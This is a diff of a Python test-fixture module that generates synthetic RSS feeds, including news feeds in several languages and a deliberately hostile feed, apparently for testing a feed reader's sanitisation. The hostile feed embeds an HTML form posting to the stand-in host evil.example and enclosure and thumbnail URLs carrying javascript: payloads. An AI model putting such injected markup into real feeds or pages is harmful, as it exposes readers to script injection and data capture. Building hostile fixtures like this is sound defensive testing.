@@ -1,6 +1,6 @@
 """Feeds of outlets beside the sample's, for looking at pages: in other scripts, hostile, private, busy, failing.
 
-Each function gives one document as it stood on a day; what a day brought stays in it for the next days, as in real feeds.
+Each function gives one document as it stood on a day; what a day brought stays in it for the next days.
 """
 
 from __future__ import annotations
@@ -30,7 +30,8 @@ def _rss(title: str, link: str, language: str, items: list[str]) -> bytes:
 
 def _item(title: str, link: str, at: datetime, summary: str = "", more: str = "") -> str:
     return (
-        f"<item><title>{escape(title)}</title><link>{escape(link)}</link><guid isPermaLink='false'>{escape(link)}</guid>"
+        f"<item><title>{escape(title)}</title><link>{escape(link)}</link>"
+        f"<guid isPermaLink='false'>{escape(link)}</guid>"
         f"<pubDate>{format_datetime(at)}</pubDate><description>{escape(summary)}</description>{more}</item>"
     )
 
@@ -49,8 +50,8 @@ def _told(days: list[datetime], language: str, host: str, title: str, *lines: tu
 def arabic(days: list[datetime]) -> bytes:
     return _told(
         days, "ar", "www.sahifat-almina.example", "صحيفة الميناء",
-        ("مجلس المدينة يوافق على جسر جديد فوق النهر", "وافق المجلس مساء الأربعاء على بناء جسر يحل محل العبّارة القديمة بعد نقاش طويل."),
-        ("افتتاح مكتبة عامة في الحي القديم", "تفتح المكتبة أبوابها يوم الأحد وتضم عشرين ألف كتاب باللغات العربية والإنجليزية."),
+        ("مجلس المدينة يوافق على جسر جديد", "وافق المجلس مساء الأربعاء على بناء جسر يحل محل العبّارة القديمة."),
+        ("افتتاح مكتبة عامة في الحي القديم", "تفتح المكتبة أبوابها يوم الأحد وتضم عشرين ألف كتاب."),
         ("ارتفاع أسعار القمح بعد موسم جاف", "قال مزارعون إن المحصول أقل من العام الماضي بنحو الثلث (بيان OECD)."),
         ("قطار ليلي جديد يربط العاصمة بالساحل", "ينطلق القطار ثلاث مرات في الأسبوع ابتداءً من الربيع المقبل."),
     )  # fmt: skip
@@ -116,7 +117,7 @@ def busy(name: str, host: str, days: list[datetime], *, turn: int) -> bytes:
         for number, matter in enumerate(_MATTERS[turn::3]):
             form = _TURNS[(turn + day.day) % len(_TURNS)]
             headline = form.format(matter)
-            text = f"{matter.capitalize()} came up {number + 2} times this year. {name} asked who pays for them, and since when."
+            text = f"{matter.capitalize()} came up {number + 2} times this year. {name} asked who pays, and since when."
             at = day - timedelta(minutes=20 * number + 30)
             items.append(_item(headline[0].upper() + headline[1:], f"https://{host}/{day:%m%d}/{number}", at, text))
     return _rss(name, f"https://{host}/", "en", items[::-1])
@@ -162,7 +163,8 @@ def hostile(days: list[datetime]) -> bytes:
         ):
             more = (
                 f"<dc:creator>{escape(script)}</dc:creator><category>{escape(image)}</category>"
-                f"<content:encoded>{escape(summary + image + '<form action=https://evil.example><input name=a></form>')}"
+                "<content:encoded>"
+                f"{escape(summary + image + '<form action=https://evil.example><input name=a></form>')}"
                 "</content:encoded>"
                 f'<enclosure url="javascript:{ATTACK}" type="{escape(script)}" length="-1"/>'
                 f'<media:thumbnail url="javascript:{ATTACK}" width="9" height="{escape(image, quote=True)}"/>'
